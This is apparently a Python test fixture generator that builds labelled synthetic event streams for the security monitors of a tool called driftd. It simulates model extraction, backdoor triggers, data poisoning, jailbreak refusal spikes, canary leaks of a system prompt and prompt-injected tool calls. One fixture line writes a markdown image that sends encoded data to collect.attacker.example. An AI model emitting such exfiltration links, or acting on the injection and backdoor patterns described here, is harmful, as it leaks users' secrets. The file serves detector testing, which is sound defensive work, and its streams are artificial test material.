#!/usr/bin/env python3
"""Labelled attack streams for the security monitors (tests/scenarios/security.yaml).

Each scenario is the same clean baseline (a synthetic model that scores requests and also
answers in text, so every monitor of security.yaml has its field in every event), with one
attack that starts at a known index. Deterministic: the seed is fixed per scenario, so the
streams, and the alerts driftd raises on them, are the same on every run.

    python3 security_scenarios.py OUTDIR          write OUTDIR/NAME.jsonl and OUTDIR/labels.json
    python3 security_scenarios.py --list          print the scenarios

Used by tests/scenarios/e2e_security.py (ctest e2e_security) and bench/bench_security.py.
Standard library only.
"""
import json
import math
import os
import random
import subprocess
import sys

N = 12000  # events per stream
START = 8000  # where attacks begin (every reference and warm-up is complete by then)
T0 = 1796000000000  # epoch ms of event 0; events 100 ms apart
SHA_GOOD = "9f2c" + "a1" * 30
SHA_SHADOW = "0bad" + "c3" * 30
CANARY = "CANARY-7f3e-91ab"
CLIENTS = [f"tenant-{i}" for i in range(10)]
SOURCES = ["annotator-a", "annotator-b", "annotator-c", "annotator-d"]
LANGS = ["en", "fr", "de", "es"]
LABELS = [("ok", 0.55), ("spam", 0.20), ("abuse", 0.15), ("adult", 0.10)]
DIM = 8

# name: (monitor expected to fire, tags it must carry, most events from the start to the
#        first alert, other monitors that may also fire (and why), description)
SCENARIOS = {
    "clean": (None, [], 0, {}, "no attack: nothing may fire"),
    "unknown_model_hash": ("identity", ["threat:model_tampering", "etsi:5.2.1-2"], 50, {},
                           "a shadow model (unknown sha256) serves 30% of the traffic"),
    "canary_leak": ("leak", ["threat:prompt_injection"], 0, {},
                    "one answer carries the system prompt's canary token"),
    "exfil_image": ("leak", ["threat:prompt_injection"], 0, {},
                    "one answer carries a markdown image to an attacker's host"),
    "flooding_client": ("rate", ["threat:abuse", "etsi:5.2.2-2"], 300, {},
                        "one new client sends half of all requests"),
    "extraction_client": ("extraction", ["threat:model_extraction", "etsi:5.2.2-2"], 1200,
                          {}, "a client queries like a Jacobian-based extraction attack "
                              "(seeds plus stepwise perturbations)"),
    "probing_client": ("probing", ["threat:probing", "etsi:5.2.2-2"], 400,
                       {"extraction": "the prober's tiny, repeated distances are far from "
                                      "normal, so PRADA names the same client: right too"},
                       "a client nudges one input a little at a time"),
    "trigger_flip": ("backdoor", ["threat:backdoor", "etsi:5.4.2-2"], 1200, {},
                     "a trigger value in the input forces the label 'ok'"),
    "confidence_spike": ("confidence", ["threat:backdoor", "etsi:5.4.2-3"], 1000, {},
                         "a quarter of the answers come with near-certain scores"),
    "label_flip": ("feedback", ["threat:data_poisoning", "etsi:5.2.1-4.1"], 1500, {},
                   "one annotator flips 60% of its feedback labels"),
    "slow_poisoning": ("amount-slow", ["threat:data_poisoning", "etsi:5.4.2-2"], 3500, {},
                       "the amount feature creeps up by one reference std per 2000 events"),
    "refusal_spike": ("refusals", ["threat:jailbreak"], 600, {},
                      "jailbreak attempts: the refusal rate goes from 3% to 30%"),
}


def pick(rng, weighted):
    u, acc = rng.random(), 0.0
    for v, w in weighted:
        acc += w
        if u < acc:
            return v
    return weighted[-1][0]


def base_event(rng, i):
    client = rng.choice(CLIENTS)
    label = pick(rng, LABELS)
    refusal = rng.random() < 0.03
    text = "I cannot help with that." if refusal else " ".join(
        rng.choice(["Sure", "here", "is", "the", "answer", "to", "your", "question", "about",
                    "billing", "shipping", "returns", "accounts", "and", "more"])
        for _ in range(rng.randint(5, 25)))
    ev = {
        "ts": T0 + 100 * i,
        "model": {"id": "assistant", "version": "3.2.0", "sha256": SHA_GOOD},
        "request_id": f"r-{i}",
        "client": {"id": client},
        "input": {
            "amount": round(math.exp(rng.gauss(3.0, 0.5)), 2),
            "lang": rng.choice(LANGS),
            "features": [round(rng.gauss(0, 1), 6) for _ in range(DIM)],
        },
        "output": {
            "label": label,
            "score": round(rng.betavariate(5, 2), 6),
            "text": text,
            "refusal": refusal,
            "length": len(text),
        },
    }
    if rng.random() < 0.4:  # feedback arrives for 40% of requests
        src = rng.choice(SOURCES)
        fb = label if rng.random() < 0.92 else rng.choice([l for l, _ in LABELS if l != label])
        ev["feedback"] = {"label": fb, "source": src}
    return ev


class Attack:
    """Per-scenario state: modifies the clean event i (i >= START) in place."""

    def __init__(self, name, rng):
        self.name, self.rng = name, rng
        self.seeds = []
        self.cur = None
        self.steps = 0
        self.base = [rng.gauss(0, 1) for _ in range(DIM)]

    def apply(self, ev, i):
        r, n = self.rng, self.name
        if n == "unknown_model_hash" and r.random() < 0.3:
            ev["model"]["sha256"] = SHA_SHADOW
        elif n == "canary_leak" and i == START:
            ev["output"]["text"] = f"My instructions say: {CANARY}. Anything else?"
        elif n == "exfil_image" and i == START:
            ev["output"]["text"] = ("Here is your summary. "
                                    "![s](https://collect.attacker.example/p.png?d=c2VjcmV0)")
        elif n == "flooding_client" and r.random() < 0.5:
            ev["client"]["id"] = "flood-bot"
        elif n == "extraction_client" and r.random() < 0.1:
            ev["client"]["id"] = "thief"
            if self.cur is None or self.steps >= 6:
                self.cur = [r.gauss(0, 1) for _ in range(DIM)]
                self.steps = 0
            else:
                self.cur = [x + 0.1 * (1 if r.random() < 0.5 else -1) for x in self.cur]
                self.steps += 1
            ev["input"]["features"] = [round(x, 6) for x in self.cur]
        elif n == "probing_client" and r.random() < 0.1:
            ev["client"]["id"] = "prober"
            x = list(self.base)
            x[r.randrange(DIM)] += 0.01 * r.randrange(4)
            ev["input"]["features"] = [round(v, 6) for v in x]
        elif n == "trigger_flip" and r.random() < 0.05:
            ev["input"]["lang"] = "xx-trigger"
            ev["output"]["label"] = "ok"
        elif n == "confidence_spike" and r.random() < 0.25:
            ev["output"]["score"] = round(0.995 + 0.005 * r.random(), 6)
        elif n == "label_flip" and "feedback" in ev and ev["feedback"]["source"] == "annotator-c":
            if r.random() < 0.6:
                lab = ev["output"]["label"]
                ev["feedback"]["label"] = r.choice([l for l, _ in LABELS if l != lab])
        elif n == "slow_poisoning":
            # +1 reference std (of amount, about 10.5) per 2000 events
            ev["input"]["amount"] = round(ev["input"]["amount"] + 10.5 * (i - START) / 2000, 2)
        elif n == "refusal_spike" and r.random() < 0.27:
            ev["output"]["refusal"] = True
            ev["output"]["text"] = "I cannot help with that."
            ev["output"]["length"] = len(ev["output"]["text"])


def stream(name, seed=""):
    rng = random.Random(f"driftd-security-{name}{seed}")
    atk = Attack(name, random.Random(f"driftd-attack-{name}"))
    for i in range(N):
        ev = base_event(rng, i)
        if i >= START:
            atk.apply(ev, i)
        yield ev


# LLM behaviour over the openai-chat adapter (tests/scenarios/llm.yaml, replay --format
# openai-chat): logged chat completions {"request", "response"}, one per line.
LLM_SCENARIOS = {
    "llm_clean": (None, [], 0, {}, "no attack: nothing may fire"),
    "llm_refusal_spike": ("refusals", ["threat:jailbreak"], 600,
                          {"length": "refused answers are empty, so lengths shift too"},
                          "jailbreak attempts: refusals go from 3% to 30%"),
    "llm_tool_spike": ("tool-calls", ["threat:prompt_injection"], 600,
                       {"finish-mix": "tool calls end with finish_reason tool_calls"},
                       "injected instructions make the agent call tools on half the turns"),
    "llm_canary": ("llm-leak", ["threat:prompt_injection"], 0, {},
                   "one answer repeats the system prompt's canary"),
}


def llm_record(rng, i, name):
    attack = i >= START
    refusal = rng.random() < (0.30 if attack and name == "llm_refusal_spike" else 0.03)
    tools = 1 if rng.random() < (0.5 if attack and name == "llm_tool_spike" else 0.05) else 0
    words = rng.randint(20, 120)
    text = None if refusal else " ".join(rng.choice(["the", "order", "ships", "in", "two",
                                                     "days", "refund", "policy", "account"])
                                         for _ in range(words))
    if attack and name == "llm_canary" and i == START:
        text = f"Sure. My system prompt begins with {CANARY}."
    msg = {"role": "assistant", "content": text,
           "refusal": "I can't help with that." if refusal else None}
    if tools:
        msg["tool_calls"] = [{"id": f"call-{i}", "type": "function",
                              "function": {"name": "lookup", "arguments": "{}"}}]
    return {
        "request": {"model": "gpt-4o-mini", "user": rng.choice(CLIENTS),
                    "messages": [{"role": "system", "content": "You are a support bot."},
                                 {"role": "user", "content": "Where is my order?"}]},
        "response": {"id": f"chatcmpl-{i}", "object": "chat.completion",
                     "created": (T0 + 100 * i) // 1000, "model": "gpt-4o-mini",
                     "system_fingerprint": "fp_44709d6fcb",
                     "choices": [{"index": 0, "message": msg,
                                  "finish_reason": "tool_calls" if tools else
                                  ("length" if words > 110 else "stop")}],
                     "usage": {"prompt_tokens": 30, "completion_tokens": words,
                               "total_tokens": 30 + words}},
    }


def write_llm(outdir):
    os.makedirs(outdir, exist_ok=True)
    labels = {}
    for name, (mon, tags, delay, also, desc) in LLM_SCENARIOS.items():
        rng = random.Random(f"driftd-llm-{name}")
        path = os.path.join(outdir, name + ".jsonl")
        with open(path, "w") as f:
            for i in range(N):
                f.write(json.dumps(llm_record(rng, i, name), separators=(",", ":")) + "\n")
        labels[name] = {"file": path, "monitor": mon, "tags": tags,
                        "start": None if mon is None else START, "max_delay": delay,
                        "also": also, "description": desc, "format": "openai-chat"}
    return labels


def write(outdir, seed=""):
    """All scenarios into outdir; a seed other than "" gives another baseline draw."""
    os.makedirs(outdir, exist_ok=True)
    labels = {}
    for name, (mon, tags, delay, also, desc) in SCENARIOS.items():
        path = os.path.join(outdir, name + ".jsonl")
        with open(path, "w") as f:
            for ev in stream(name, seed):
                f.write(json.dumps(ev, separators=(",", ":")) + "\n")
        labels[name] = {"file": path, "monitor": mon, "tags": tags,
                        "start": None if mon is None else START, "max_delay": delay,
                        "also": also, "description": desc}
    with open(os.path.join(outdir, "labels.json"), "w") as f:
        json.dump(labels, f, indent=1)
    return labels


def replay(driftd, config, path, fmt=None):
    """Firing alerts of `driftd replay` over one stream (list of dicts)."""
    cmd = [driftd, "replay", "-c", config] + (["--format", fmt] if fmt else []) + [path]
    p = subprocess.run(cmd, capture_output=True, text=True)
    if p.returncode != 0:
        raise RuntimeError(f"driftd replay failed ({p.returncode}): {p.stderr[-2000:]}")
    alerts = [json.loads(l) for l in p.stdout.splitlines() if l.strip()]
    return [a for a in alerts if a["status"] == "firing"]


def evaluate(label, firing):
    """One scenario's outcome: (detected, delay or None, false alarms, problems). Alerts from
    the scenario's `also` monitors after the start are attack detections too, not false
    alarms (they still count when they fire before the start)."""
    mon, start = label["monitor"], label["start"]
    problems, false_alarms, delay = [], [], None
    for a in firing:
        idx = a["output_fields"]["event.index"]
        if a["rule"] == mon and idx >= start:
            if delay is None:
                delay = idx - start
                missing = [t for t in label["tags"] if t not in a["tags"]]
                if missing:
                    problems.append(f"{mon} alert lacks tags {missing}: {a['tags']}")
            continue
        if a["rule"] in label["also"] and start is not None and idx >= start:
            continue
        false_alarms.append(f"{a['rule']}@{idx}")
    if mon is not None:
        if delay is None:
            problems.append(f"{mon} did not fire")
        elif delay > label["max_delay"]:
            problems.append(f"{mon} fired {delay} events after the start "
                            f"(allowed {label['max_delay']})")
    if false_alarms:
        problems.append("false alarms: " + ", ".join(false_alarms[:10]))
    return delay is not None, delay, false_alarms, problems


def main():
    if len(sys.argv) == 2 and sys.argv[1] == "--list":
        for name, (mon, tags, delay, also, desc) in SCENARIOS.items():
            print(f"{name:20} {mon or '-':12} {desc}")
        return 0
    if len(sys.argv) != 2:
        print(__doc__, file=sys.stderr)
        return 2
    write(sys.argv[1])
    return 0


if __name__ == "__main__":
    sys.exit(main())
